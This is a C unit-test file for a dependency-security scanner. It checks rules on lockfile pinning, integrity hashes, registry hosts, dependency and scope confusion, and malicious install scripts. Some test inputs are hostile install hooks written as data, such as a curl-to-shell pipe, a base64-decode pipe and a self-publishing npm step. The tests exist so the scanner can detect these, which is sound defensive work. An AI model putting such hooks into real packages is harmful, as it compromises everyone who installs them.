/* Structure-driven deps/ rules on hand-built package models: a test analyzer reads a small
 * line format into a struct cu_depfile and runs cu_deps_check_struct (the real parsers are
 * tested on their own). Format, one record a line (fields separated by '|', '-' = NULL):
 *   F|format|is_lockfile          P|eco|name|version|source|resolved|integrity|index|flags
 *   S|name|command                I|name|url|explicit|default        N|project name
 * flags: s = install script, d = direct. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/util.h"
#include "deps/deps.h"
#include "engine/engine.h"
#include "testutil.h"
#include "deps_testmodel.h"
#include "core/banned.h"

const struct cu_analyzer *const cu_registry[] = { &t_an };
const size_t cu_registry_len = 1;

static custody_scan *scan_set(const char *text, const custody_prop *set, size_t nset)
{
    custody_scan *s = tu_scan_new(set, nset);
    custody_error err;
    assert_int_equal(custody_scan_buffer(s, "t.lock", (const uint8_t *)text, strlen(text), &err),
                     0);
    return s;
}

/* Highest severity of `rule` when scanning `text` with these settings (-1 when none). */
static int one_set(const char *text, const custody_prop *set, size_t nset, const char *rule)
{
    custody_scan *s = scan_set(text, set, nset);
    int r = tu_max_severity(s, rule);
    custody_scan_free(s);
    return r;
}

static int one(const char *text, const char *rule)
{
    return one_set(text, NULL, 0, rule);
}

#define SHA512 "sha512-AAAA"
#define SHA    "0123456789abcdef0123456789abcdef01234567"

/* An old lockfile: six SHA-1-only packages and five without any hash become three findings
 * each naming its package, then one summary for the rest. */
static void test_integrity_summary(void **state)
{
    (void)state;
    struct cu_buf b = CU_BUF_INIT(1u << 16);
    cu_buf_adds(&b, "F|package-lock|1\n");
    for (int i = 0; i < 6; i++) {
        cu_buf_addf(&b,
                    "P|npm|w%d|1.0.0|reg|https://registry.npmjs.org/w%d/-/"
                    "w%d-1.0.0.tgz|sha1-AAAA|-|-\n",
                    i, i, i);
    }
    for (int i = 0; i < 5; i++) {
        cu_buf_addf(&b,
                    "P|npm|m%d|1.0.0|reg|https://registry.npmjs.org/m%d/-/"
                    "m%d-1.0.0.tgz|-|-|-\n",
                    i, i, i);
    }
    custody_scan *s = scan_set(cu_buf_str(&b), NULL, 0);
    assert_int_equal(tu_count(s, "deps/weak-integrity", CUSTODY_SEV_INFO), 4);
    assert_int_equal(tu_count(s, "deps/missing-integrity", CUSTODY_SEV_INFO), 4);
    assert_true(tu_has_text(s, "w0 has only a SHA-1/MD5", CUSTODY_SEV_INFO));
    assert_true(tu_has_text(s, "w2 has only a SHA-1/MD5", CUSTODY_SEV_INFO));
    assert_false(tu_has_text(s, "w3 has only", CUSTODY_SEV_INFO));
    assert_true(tu_has_text(s, "3 more packages have only SHA-1/MD5", CUSTODY_SEV_INFO));
    assert_true(tu_has_text(s, "2 more packages have no integrity", CUSTODY_SEV_INFO));
    custody_scan_free(s);
    cu_buf_free(&b);
}

static void test_git(void **state)
{
    (void)state;
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|git|git+ssh://git@github.com/u/a.git#" SHA
                         "|-|-|-\n",
                         "deps/git-source"),
                     CUSTODY_SEV_LOW);
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|git|git+ssh://git@github.com/u/a.git#" SHA
                         "|-|-|-\n",
                         "deps/git-unpinned"),
                     -1);
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|git|git+https://github.com/u/a.git#main"
                         "|-|-|-\n",
                         "deps/git-unpinned"),
                     CUSTODY_SEV_HIGH);
    /* a short sha is not a pin */
    assert_int_equal(one("F|yarn-v1|1\nP|npm|a|1.0.0|git|https://github.com/u/a.git#0123abc"
                         "|-|-|-\n",
                         "deps/git-unpinned"),
                     CUSTODY_SEV_HIGH);
    /* pip VCS pinned / unpinned */
    assert_int_equal(one("F|requirements|0\nP|pypi|b|-|git|git+https://h.example/b.git@" SHA
                         "|-|-|-\n",
                         "deps/git-unpinned"),
                     -1);
    assert_int_equal(one("F|requirements|0\nP|pypi|b|-|git|git+https://h.example/b.git@v1.2"
                         "|-|-|-\n",
                         "deps/git-unpinned"),
                     CUSTODY_SEV_HIGH);
    /* git:// is insecure too */
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|git|git://github.com/u/a.git#" SHA
                         "|-|-|-\n",
                         "deps/insecure-transport"),
                     CUSTODY_SEV_HIGH);
}

static void test_sources_transport_hosts(void **state)
{
    (void)state;
    const char *http =
        "F|package-lock|1\nP|npm|a|1.0.0|reg|http://registry.npmjs.org/a/-/a-1.0.0.tgz|" SHA512
        "|-|-\n";
    assert_int_equal(one(http, "deps/insecure-transport"), CUSTODY_SEV_HIGH);
    const char *ok =
        "F|package-lock|1\nP|npm|a|1.0.0|reg|https://registry.npmjs.org/a/-/a-1.0.0.tgz|" SHA512
        "|-|-\n";
    custody_scan *s = scan_set(ok, NULL, 0);
    assert_int_equal(custody_scan_finding_count(s), 0);
    custody_scan_free(s);
    const char *evil =
        "F|package-lock|1\nP|npm|a|1.0.0|reg|https://evil.example/a/-/a-1.0.0.tgz|" SHA512 "|-|-\n";
    assert_int_equal(one(evil, "deps/registry-host"), CUSTODY_SEV_MEDIUM);
    /* the allowlist setting replaces the default */
    custody_prop set[] = { { "deps.registry-host", "evil.example" } };
    assert_int_equal(one_set(evil, set, 1, "deps/registry-host"), -1);
    assert_int_equal(one_set(ok, set, 1, "deps/registry-host"), CUSTODY_SEV_MEDIUM);
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|url|https://cdn.example/a.tgz|" SHA512
                         "|-|-\n",
                         "deps/url-source"),
                     CUSTODY_SEV_MEDIUM);
    assert_int_equal(
        one("F|package-lock|1\nP|npm|a|1.0.0|path|file:../a|-|-|-\n", "deps/path-source"),
        CUSTODY_SEV_INFO);
    /* http index */
    assert_int_equal(one("F|requirements|0\nI|-|http://pypi.corp.example/simple|0|0\n",
                         "deps/insecure-transport"),
                     CUSTODY_SEV_HIGH);
}

static void test_name_mismatch(void **state)
{
    (void)state;
    assert_int_equal(one("F|package-lock|1\nP|npm|lodash|4.17.21|reg|https://registry.npmjs.org/"
                         "lodahs/-/lodahs-4.17.21.tgz|" SHA512 "|-|-\n",
                         "deps/name-mismatch"),
                     CUSTODY_SEV_MEDIUM);
    assert_int_equal(one("F|package-lock|1\nP|npm|@s/x|1.0.0|reg|https://registry.npmjs.org/"
                         "@s/x/-/x-1.0.0.tgz|" SHA512 "|-|-\n",
                         "deps/name-mismatch"),
                     -1);
    assert_int_equal(one("F|package-lock|1\nP|npm|@s/x|1.0.0|reg|https://registry.yarnpkg.com/"
                         "@s%2fx/-/x-1.0.0.tgz|" SHA512 "|-|-\n",
                         "deps/name-mismatch"),
                     -1);
    /* the common -cjs aliases stay low */
    assert_int_equal(one("F|package-lock|1\nP|npm|string-width-cjs|4.2.3|reg|https://registry."
                         "npmjs.org/string-width/-/string-width-4.2.3.tgz|" SHA512 "|-|-\n",
                         "deps/name-mismatch"),
                     CUSTODY_SEV_LOW);
}

static void test_integrity(void **state)
{
    (void)state;
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|reg|https://registry.npmjs.org/a/-/"
                         "a-1.0.0.tgz|-|-|-\n",
                         "deps/missing-integrity"),
                     CUSTODY_SEV_MEDIUM);
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|reg|https://registry.npmjs.org/a/-/"
                         "a-1.0.0.tgz|sha1-AAAA|-|-\n",
                         "deps/weak-integrity"),
                     CUSTODY_SEV_MEDIUM);
    assert_int_equal(one("F|package-lock|1\nP|npm|a|1.0.0|reg|https://registry.npmjs.org/a/-/"
                         "a-1.0.0.tgz|sha1-AAAA sha512-BBBB|-|-\n",
                         "deps/weak-integrity"),
                     -1);
    assert_int_equal(one("F|yarn-v1|1\nP|npm|a|1.0.0|reg|https://registry.yarnpkg.com/a/-/"
                         "a-1.0.0.tgz#" SHA "|-|-|-\n",
                         "deps/weak-integrity"),
                     CUSTODY_SEV_MEDIUM);
    /* a manifest carries no integrity: no finding */
    assert_int_equal(one("F|package-json|0\nP|npm|a|-|reg|-|-|-|-\n", "deps/missing-integrity"),
                     -1);
    assert_int_equal(one("F|requirements|0\nP|pypi|a|-|reg|-|-|-|-\n", "deps/unpinned"),
                     CUSTODY_SEV_LOW);
    assert_int_equal(one("F|requirements|0\nP|pypi|a|1.0|reg|-|-|-|-\n", "deps/unpinned"), -1);
    assert_int_equal(one("F|requirements|0\nP|pypi|a|-|reg|-|sha256:00|-|-\n", "deps/unpinned"),
                     -1);
}

static void test_scripts(void **state)
{
    (void)state;
    assert_int_equal(
        one("F|package-json|0\nS|preinstall|node setup_bun.js\n", "deps/install-script-loader"),
        CUSTODY_SEV_CRITICAL);
    assert_int_equal(one("F|package-json|0\nS|postinstall|curl -s https://x.example/p.sh | sh\n",
                         "deps/install-script-loader"),
                     CUSTODY_SEV_CRITICAL);
    assert_int_equal(one("F|package-json|0\nS|install|node -e \"require('child_process')\"\n",
                         "deps/install-script-loader"),
                     CUSTODY_SEV_HIGH);
    assert_int_equal(one("F|package-json|0\nS|postinstall|echo aGk= | base64 -d\n",
                         "deps/install-script-loader"),
                     CUSTODY_SEV_HIGH);
    assert_int_equal(one("F|package-json|0\nS|postinstall|npm publish --access public\n",
                         "deps/self-propagation"),
                     CUSTODY_SEV_CRITICAL);
    /* near-misses: plain lifecycle scripts and non-lifecycle publish scripts */
    custody_scan *s = scan_set("F|package-json|0\nS|install|node-gyp rebuild\nS|prepare|husky\n"
                               "S|release|npm publish\nS|build|curl https://x | sh\n"
                               "S|postinstall|node scripts/bundle-install.js\n",
                               NULL, 0);
    assert_int_equal(tu_count(s, NULL, CUSTODY_SEV_LOW), 0);
    assert_int_equal(tu_count(s, "deps/install-script", CUSTODY_SEV_INFO), 3);
    custody_scan_free(s);
    /* hasInstallScript in a lockfile */
    assert_int_equal(one("F|package-lock|1\nP|npm|esbuild|0.20.0|reg|https://registry.npmjs.org/"
                         "esbuild/-/esbuild-0.20.0.tgz|" SHA512 "|-|s\n",
                         "deps/install-script"),
                     CUSTODY_SEV_INFO);
}

static void test_confusion_pypi(void **state)
{
    (void)state;
    custody_prop set[] = { { "deps.internal-prefix", "acme-" } };
    /* uv.lock: internal package resolved from PyPI */
    assert_int_equal(one_set("F|uv-lock|1\nP|pypi|acme_utils|1.0|reg|-|sha256:00|"
                             "https://pypi.org/simple|-\n",
                             set, 1, "deps/dependency-confusion"),
                     CUSTODY_SEV_CRITICAL);
    /* resolved from the internal index: fine */
    assert_int_equal(one_set("F|uv-lock|1\nP|pypi|acme-utils|1.0|reg|-|sha256:00|"
                             "https://pypi.acme.example/simple|-\n",
                             set, 1, "deps/dependency-confusion"),
                     -1);
    /* a package whose file URL lies on the index it is pinned to: no registry-host */
    assert_int_equal(
        one_set("F|uv-lock|1\nP|pypi|other|1.0|reg|https://pypi.acme.example/f/other-1.0.tar.gz|"
                "sha256:00|https://pypi.acme.example/simple|-\n",
                NULL, 0, "deps/registry-host"),
        -1);
    assert_int_equal(
        one_set("F|uv-lock|1\nP|pypi|other|1.0|reg|https://files.evil.example/f/other-1.0.tar.gz|"
                "sha256:00|https://pypi.acme.example/simple|-\n",
                NULL, 0, "deps/registry-host"),
        CUSTODY_SEV_MEDIUM);
    /* requirements with --extra-index-url */
    assert_int_equal(one_set("F|requirements|0\nI|-|https://pypi.acme.example/simple|0|0\n"
                             "P|pypi|Acme.Utils|1.0|reg|-|-|-|-\n",
                             set, 1, "deps/dependency-confusion"),
                     CUSTODY_SEV_HIGH);
    /* --index-url replaces PyPI: fine */
    assert_int_equal(one_set("F|requirements|0\nI|-|https://pypi.acme.example/simple|0|1\n"
                             "P|pypi|acme-utils|1.0|reg|-|-|-|-\n",
                             set, 1, "deps/dependency-confusion"),
                     -1);
    /* pyproject: uv index explicit = true and the package pinned to it */
    assert_int_equal(one_set("F|pyproject|0\nI|acme|https://pypi.acme.example/simple|1|0\n"
                             "P|pypi|acme-utils|-|reg|-|-|acme|-\n",
                             set, 1, "deps/dependency-confusion"),
                     -1);
    /* not internal: nothing */
    assert_int_equal(one_set("F|requirements|0\nI|-|https://pypi.acme.example/simple|0|0\n"
                             "P|pypi|requests|2.0|reg|-|-|-|-\n",
                             set, 1, "deps/dependency-confusion"),
                     -1);
}

static void test_scope_confusion(void **state)
{
    (void)state;
    custody_prop set[] = { { "deps.internal-scope", "@acmecorp" } };
    assert_int_equal(one_set("F|package-lock|1\nP|npm|@acmecrop/x|1.0.0|reg|https://registry."
                             "npmjs.org/@acmecrop/x/-/x-1.0.0.tgz|" SHA512 "|-|-\n",
                             set, 1, "deps/scope-confusion"),
                     CUSTODY_SEV_HIGH);
    /* near-miss: a real scope far from the internal one */
    assert_int_equal(one("F|package-lock|1\nP|npm|@types/node|1.0.0|reg|https://registry."
                         "npmjs.org/@types/node/-/node-1.0.0.tgz|" SHA512 "|-|-\n",
                         "deps/scope-confusion"),
                     -1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_git),
        cmocka_unit_test(test_integrity_summary),
        cmocka_unit_test(test_sources_transport_hosts),
        cmocka_unit_test(test_name_mismatch),
        cmocka_unit_test(test_integrity),
        cmocka_unit_test(test_scripts),
        cmocka_unit_test(test_confusion_pypi),
        cmocka_unit_test(test_scope_confusion),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
